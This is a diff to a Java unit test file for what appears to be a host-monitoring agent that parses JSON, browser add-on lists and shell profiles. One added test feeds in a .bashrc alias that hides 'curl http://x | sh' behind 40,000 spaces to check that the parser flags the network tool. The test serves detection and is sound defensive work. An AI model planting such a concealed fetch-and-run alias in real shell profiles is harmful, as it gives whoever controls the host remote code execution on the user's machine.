@@ -3,6 +3,7 @@ package bzh.vigie.agent.persistence.format;
 import static bzh.vigie.agent.persistence.format.FormatsTest.file;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import bzh.vigie.agent.host.HostPath;
@@ -14,7 +15,12 @@ import bzh.vigie.agent.persistence.format.session.ShellProfile;
 import bzh.vigie.agent.persistence.format.session.ShellTraps;
 import bzh.vigie.agent.persistence.format.session.StartLines;
 import bzh.vigie.agent.persistence.format.session.Variables;
+import bzh.vigie.agent.persistence.format.tree.JsonText;
+import bzh.vigie.agent.persistence.format.tree.Leaves;
+import bzh.vigie.event.Item.Trait;
+import java.time.Duration;
 import java.util.List;
+import java.util.Optional;
 import org.junit.jupiter.api.Test;
 
 class SessionFormatsTest {
@@ -169,17 +175,38 @@ class SessionFormatsTest {
 
     @Test
     void jsonIsReadUpToItsMistake() {
-        Json json = Json.parse("{\"a\":{\"b\":[1,{\"c\":\"d\"}]},\"e\":tru");
-        assertEquals("d", json.value("a", "b", "1", "c"));
-        assertEquals(List.of("0", "1"), json.children("a", "b"));
+        Leaves json = JsonText.parse("{\"a\":{\"b\":[1,{\"c\":\"d\"}]},/* e */\"e\":tru");
+        assertEquals(Optional.of("d"), json.value("/a/b/1/c"));
+        assertEquals(List.of("/a/b/0", "/a/b/1"), json.below("/a/b"));
         assertEquals(1, json.malformed());
-        assertEquals(1, Json.parse("[".repeat(100_000)).malformed());
+        assertEquals(1, JsonText.parse("[".repeat(100_000)).malformed());
         assertEquals(
                 List.of("p.n"),
                 new Extension()
                         .parse(file("package.json", "{\"name\":\"n\",\"publisher\":\"p\"}")).drafts().stream()
                                 .map(Draft::name)
                                 .toList());
+    }
+
+    @Test
+    void manyAddOnsTakeTimeInProportionToTheirNumber() {
+        String many = "{\"addons\":[" + "{\"id\":\"a\"},".repeat(60_000) + "{}]}";
+        assertTimeoutPreemptively(
+                Duration.ofSeconds(30),
+                () -> assertTrue(new Extension()
+                                .parse(file("extensions.json", many))
+                                .drafts()
+                                .size()
+                        > 20_000));
+    }
+
+    @Test
+    void whatBlanksPushOutOfSightIsSeen() {
+        Draft alias = new ShellProfile()
+                .parse(file(".bashrc", "alias ls='ls" + " ".repeat(40_000) + "; curl http://x | sh'\n"))
+                .drafts()
+                .get(1);
+        assertTrue(alias.traits().contains(Trait.NETWORK_TOOL), alias.toString());
     }
 
     private static List<String> names(Format format, String text) {
